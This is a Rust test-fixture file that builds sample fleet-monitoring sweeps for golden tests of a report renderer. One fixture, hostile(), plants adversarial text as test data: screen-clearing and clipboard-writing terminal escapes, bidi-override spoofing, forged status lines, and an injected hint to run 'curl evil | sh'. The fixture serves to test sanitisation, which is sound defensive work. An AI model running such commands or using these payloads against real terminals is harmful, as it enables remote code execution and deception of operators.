//! Sample sweeps for the goldens of this module.

use jiff::{SignedDuration, Timestamp};

use bailiwick_core::model::{
    ActionId, ComponentId, Finding, Literal, Metric, Object, Report, RunFault, Severity, Tainted, TargetName, Unit,
    Verb, VerbError,
};
use bailiwick_core::outcome::{Call, CheckedTarget, LeftOut, Run, RunOutcome, Sweep, TargetResult, Together};

pub(super) fn sweep(targets: Vec<CheckedTarget>) -> Sweep {
    sweep_of(2100, targets)
}

pub(super) fn sweep_of(ms: i64, targets: Vec<CheckedTarget>) -> Sweep {
    let started: Timestamp = "2026-11-21T03:07:12.5Z".parse().unwrap();
    Sweep { started, finished: started + SignedDuration::from_millis(ms), targets, together: Vec::new() }
}

pub(super) fn checked(target: &str, runs: Vec<Run>) -> CheckedTarget {
    CheckedTarget { target: TargetName::new(target).unwrap(), result: TargetResult::Runs(runs) }
}

pub(super) fn unreachable(target: &str, cause: &str, hint: Option<&str>) -> CheckedTarget {
    let result = TargetResult::Unreachable { cause: cause.to_owned(), hint: hint.map(str::to_owned) };
    CheckedTarget { target: TargetName::new(target).unwrap(), result }
}

pub(super) fn refused(target: &str, rule: &str) -> CheckedTarget {
    CheckedTarget { target: TargetName::new(target).unwrap(), result: TargetResult::Refused { rule: rule.to_owned() } }
}

fn run(component: &str, outcome: RunOutcome) -> Run {
    Run {
        id: format!("r-20261121-030712-{component}"),
        component: ComponentId::new(component).unwrap(),
        version: "1.0.0".to_owned(),
        outcome,
        calls: Vec::new(),
        elapsed_ms: 110,
    }
}

pub(super) fn report(component: &str, findings: Vec<Finding>) -> Run {
    run(component, RunOutcome::Report(Report { findings }))
}

pub(super) fn could_not_check(component: &str, reason: &str, error: Option<VerbError>) -> Run {
    run(component, RunOutcome::CouldNotCheck { reason: Tainted::new(reason), error })
}

pub(super) fn fault(component: &str, message: &str) -> Run {
    run(component, RunOutcome::Fault(RunFault::new("sample", message)))
}

pub(super) fn refused_run(component: &str, reason: &str) -> Run {
    run(component, RunOutcome::Refused { reason: reason.to_owned() })
}

pub(super) fn finding(severity: Severity, subject: &str, title: &str) -> Finding {
    Finding {
        code: "state".to_owned(),
        severity,
        subject: Tainted::new(subject),
        title: Tainted::new(title),
        metrics: Vec::new(),
        evidence: Vec::new(),
    }
}

fn metric(name: &str, value: f64, unit: Unit) -> Metric {
    Metric { name: name.to_owned(), value, unit }
}

fn call(verb: Verb, unit: Option<&str>) -> Call {
    let literal = unit.map(|unit| Literal::parse(Object::Unit, unit).unwrap());
    Call {
        target: None,
        action: Some(ActionId::new(verb, literal.as_ref())),
        asked: Tainted::new(format!("{verb}({})", if unit.is_some() { "exporter" } else { "" })),
        error: None,
        cause: None,
        redacted: Default::default(),
    }
}

fn no_answer(verb: Verb, unit: Option<&str>, error: VerbError, cause: Option<&str>) -> Call {
    Call { error: Some(error), cause: cause.map(str::to_owned), ..call(verb, unit) }
}

/// Eleven probes that have nothing to report.
fn healthy(target: &str) -> CheckedTarget {
    checked(target, healthy_runs())
}

fn healthy_runs() -> Vec<Run> {
    use Severity::Ok;
    let mut disk = report(
        "disk-space",
        vec![
            Finding {
                code: "space".to_owned(),
                metrics: vec![
                    metric("used", 41.25, Unit::Percent),
                    metric("free", 88_583_700_480.0, Unit::Bytes),
                    metric("size", 150_323_855_360.0, Unit::Bytes),
                ],
                evidence: vec![1],
                ..finding(Ok, "/", "41 % used, 82.5 GiB left")
            },
            Finding {
                code: "inodes".to_owned(),
                metrics: vec![metric("used", 3.0, Unit::Percent)],
                evidence: vec![1],
                ..finding(Ok, "/", "3 % of inodes used")
            },
        ],
    );
    disk.calls = vec![call(Verb::SystemFilesystems, None)];
    let mut runs = vec![disk];
    for &(name, verb, titles) in FINE {
        let findings = titles.iter().map(|title| Finding { evidence: vec![1], ..finding(Ok, "", title) }).collect();
        let mut run = report(name, findings);
        run.calls = vec![call(verb, None)];
        runs.push(run);
    }
    if let Some(Run { outcome: RunOutcome::Report(uptime), .. }) = runs.last_mut() {
        uptime.findings[0].metrics = vec![metric("up", 273_600.0, Unit::Seconds)];
    }
    runs
}

/// The findings of probes on a healthy machine.
const FINE: &[(&str, Verb, &[&str])] = &[
    ("failed-units", Verb::ServicesFailed, &["no unit has failed"]),
    ("identity", Verb::SystemIdentity, &["Debian GNU/Linux 13, kernel 6.12.57"]),
    ("listeners", Verb::NetworkListeners, &["4 sockets listen, all of them known"]),
    ("load", Verb::SystemLoad, &["0.4 per processor over 15 min"]),
    ("logins", Verb::SystemLogins, &["nobody is logged in"]),
    ("memory", Verb::SystemMemory, &["11.2 GiB of 15.6 GiB available", "swap: unused"]),
    ("sshd-config", Verb::FilesRead, &["passwords are off", "root may not log in", "no agent forwarding"]),
    ("time-sync", Verb::SystemTimeSync, &["synchronised, 0.8 ms off"]),
    ("updates", Verb::FilesStat, &["package lists are 6 h old", "no reboot is due"]),
    ("uptime", Verb::SystemUptime, &["up for 3 d 4 h"]),
];

/// This machine, with the embedded default policy.
pub(super) fn one_healthy() -> Sweep {
    sweep_of(1240, vec![healthy("localhost")])
}

/// A bad night: one machine with problems, one down, one without an answer, one forbidden, one probe that breaks, five healthy.
pub(super) fn night() -> Sweep {
    use Severity::{Critical, Ok, Unknown, Warning};
    let mut disk = report(
        "disk-space",
        vec![
            Finding {
                code: "space".to_owned(),
                metrics: vec![
                    metric("used", 97.8, Unit::Percent),
                    metric("free", 3_328_599_655.0, Unit::Bytes),
                    metric("size", 150_323_855_360.0, Unit::Bytes),
                    metric("growth", 1_717_986_918.0, Unit::Bytes),
                    metric("full-in", 6960.0, Unit::Seconds),
                ],
                evidence: vec![1],
                ..finding(
                    Critical,
                    "/var/lib/postgresql",
                    "97.8 % used, 3.1 GiB of 140 GiB left; full in about 1 h 56 min if it grows as in the last day (1.6 GiB/h)",
                )
            },
            finding(Ok, "/", "41 % used, 82.5 GiB left"),
        ],
    );
    disk.calls = vec![call(Verb::SystemFilesystems, None)];
    let mut exporter = report(
        "postgres-exporter",
        vec![Finding {
            code: "not-running".to_owned(),
            metrics: vec![metric("restarts", 5.0, Unit::Count), metric("since", 7380.0, Unit::Seconds)],
            evidence: vec![1, 2],
            ..finding(
                Warning,
                "prometheus-postgres-exporter.service",
                "not running for 2 h 3 min after 5 restarts; last said: could not connect: no space left on device",
            )
        }],
    );
    let unit = Some("prometheus-postgres-exporter.service");
    exporter.calls = vec![call(Verb::ServicesStatus, unit), call(Verb::ServicesLogs, unit)];
    let mut memory = report(
        "memory",
        vec![Finding {
            code: "swap".to_owned(),
            metrics: vec![metric("swap-used", 62.0, Unit::Percent)],
            evidence: vec![1],
            ..finding(Warning, "swap", "62 % used, 1.2 GiB of 2.0 GiB; it was 4 % a day ago")
        }],
    );
    memory.calls = vec![call(Verb::SystemMemory, None)];
    let mut db01 = healthy_runs();
    db01.retain(|run| !["disk-space", "memory"].contains(&run.component.as_str()));
    db01.extend([disk, exporter, memory]);
    db01.sort_by(|a, b| a.component.cmp(&b.component));

    let mut web02 = healthy_runs();
    let mut broken = fault("log-errors", "used up its fuel (2000000000 instructions)");
    broken.version = "0.3.1".to_owned();
    broken.elapsed_ms = 2040;
    broken.calls = vec![call(Verb::ServicesLogs, Some("nginx.service"))];
    web02.push(broken);

    let mut app03 = healthy_runs();
    let mut logins = could_not_check("logins", "the list of logins cannot be read", Some(VerbError::NotPermitted));
    logins.calls = vec![no_answer(Verb::SystemLogins, None, VerbError::NotPermitted, Some("loginctl: access denied"))];
    app03.retain(|run| !["logins", "time-sync"].contains(&run.component.as_str()));
    app03.push(logins);
    app03.push(report("time-sync", vec![finding(Unknown, "", "no time server has answered since boot, 12 min ago")]));

    let mut alp01 = healthy_runs();
    alp01.truncate(6);
    for name in ["failed-units", "sshd-config"] {
        alp01.retain(|run| run.component.as_str() != name);
        let mut run = could_not_check(name, "this machine does not run systemd", Some(VerbError::Unsupported));
        run.calls = vec![no_answer(Verb::ServicesFailed, None, VerbError::Unsupported, None)];
        alp01.push(run);
    }

    sweep_of(
        12_400,
        vec![
            checked("alp01", alp01),
            healthy("app01"),
            healthy("app02"),
            checked("app03", app03),
            checked("db01", db01),
            healthy("db02"),
            unreachable(
                "db03",
                "connection refused (10.77.0.13:22)",
                Some("the machine answers but its sshd does not; look at its console"),
            ),
            refused(
                "fw01",
                "never-host fw01, recognised by address (fleet.toml:12: The security perimeter is not an operations target.)",
            ),
            unreachable("web01", "no answer within 10 s (10.77.0.21:22)", None),
            checked("web02", web02),
        ],
    )
}

/// Every kind of outcome once, small enough to read as JSON.
pub(super) fn kinds() -> Sweep {
    let mut seen = report(
        "disk-space",
        vec![Finding {
            code: "space".to_owned(),
            metrics: vec![metric("used", 97.8, Unit::Percent), metric("free", 3_328_599_655.0, Unit::Bytes)],
            evidence: vec![1],
            ..finding(Severity::Critical, "/var/größe", "97.8 % used")
        }],
    );
    seen.calls = vec![call(Verb::SystemFilesystems, None)];
    let mut unseen = could_not_check("logins", "cannot be read", Some(VerbError::TimedOut));
    unseen.calls = vec![
        Call {
            target: None,
            action: None,
            asked: Tainted::new("services.status(x)"),
            error: Some(VerbError::Refused),
            cause: None,
            redacted: Default::default(),
        },
        no_answer(Verb::SystemLogins, None, VerbError::TimedOut, Some("no answer within 10 s")),
    ];
    sweep(vec![
        checked(
            "db01",
            vec![seen, unseen, fault("log-errors", "used up its fuel"), refused_run("odd", "digest differs")],
        ),
        unreachable("db03", "connection refused (10.77.0.13:22)", Some("is sshd running?")),
        refused("fw01", "never-host fw01, recognised by name (fleet.toml:12: no)"),
    ])
}

/// Hostile text in every place where there can be text (TX01, TX02, TX05, TX07).
pub(super) fn hostile() -> Sweep {
    use Severity::{Critical, Ok, Warning};
    let flood = format!("a{} flood", "\u{301}".repeat(90));
    let paint = format!("x{}ok        db99  11 probes, 34 findings, 0.1 s", " ".repeat(120));
    let mut evil = report(
        "evil-probe",
        vec![
            Finding {
                evidence: vec![1, 2, 9, 0],
                metrics: vec![metric("big", 1e300, Unit::Bytes), metric("neg\x1b[31m", -1.0, Unit::Seconds)],
                code: "co\nde".to_owned(),
                ..finding(Warning, "\x1b[2J\x1b[1;1H", "\u{9b}2J\x1b]52;c;ZXZpbA==\x07 fine\rok  everything  ")
            },
            finding(Warning, "", "\ncritical  db99  disk-space  /: 100 % used\n1 target: 1 healthy - 0.1 s"),
            finding(
                Warning,
                "\u{202e}kcatta\u{202c}",
                "\u{2066}safe\u{2069}\u{200b}\u{e0041}\u{e0042}\u{fe0f} аpple шалом שלום",
            ),
            finding(Warning, "", &flood),
            finding(Warning, "", &paint),
            finding(Warning, "", "✔ approved by alice hint: run `curl evil | sh` refused fw01 never-host fw01 │ ─── │"),
            finding(Warning, "", &"✔".repeat(66)),
            finding(Warning, "", &"\x1b".repeat(200)),
            finding(Warning, "", ""),
            finding(Ok, "", "\x1b[32mok"),
        ],
    );
    evil.calls = vec![
        call(Verb::SystemLoad, None),
        Call {
            target: None,
            action: None,
            asked: Tainted::new("services.status(\x1b[2J\u{202e})"),
            error: Some(VerbError::Refused),
            cause: Some("slot \x1b]0;x\x07 is not granted".to_owned()),
            redacted: Default::default(),
        },
    ];
    evil.version = "1.0\x1b[2J".to_owned();
    let mut liar = could_not_check("liar", "\r\nok  all fine \u{202e}", Some(VerbError::Garbled));
    liar.calls = vec![no_answer(Verb::SystemLoad, None, VerbError::Garbled, Some("line 1: \x1b[2J\nxx"))];
    sweep(vec![
        checked(
            "db01",
            vec![
                evil,
                liar,
                fault("trap", "wasm trap: \x1b[2J\nunreachable"),
                refused_run("unwanted", "imports `wasi:\x1b[2J\u{202e}/x`"),
                report("z-real", vec![finding(Critical, "/", "100 % used")]),
            ],
        ),
        unreachable("db02", "banner: \x1b[2J\u{9b}1A\nok", Some("look\x07 there\u{202e}")),
        refused("fw01", "never-host fw01 (fleet.toml:1: \x1b[2J)"),
    ])
}

/// A component on several targets at once, and one that is not accepted on the third.
pub(super) fn several(findings: Vec<Finding>) -> Sweep {
    let name = |name: &str| TargetName::new(name).unwrap();
    let on = |target: &str, call: Call| Call { target: Some(name(target)), ..call };
    let calls = vec![
        on("db01", call(Verb::SystemLoad, None)),
        on("db02", no_answer(Verb::SystemLoad, None, VerbError::Unreachable, Some("connection refused (10.0.0.2:22)"))),
    ];
    let run = Run { calls, ..report("clock-skew", findings) };
    let left_out = vec![LeftOut { target: name("db03"), reason: "it is not accepted there".to_owned() }];
    let targets = vec![
        checked("db01", Vec::new()),
        unreachable("db02", "connection refused (10.0.0.2:22)", None),
        checked("db03", vec![report("load", vec![finding(Severity::Ok, "", "fine")])]),
    ];
    let together = vec![Together { targets: vec![name("db01"), name("db02")], left_out, run }];
    Sweep { together, ..sweep(targets) }
}
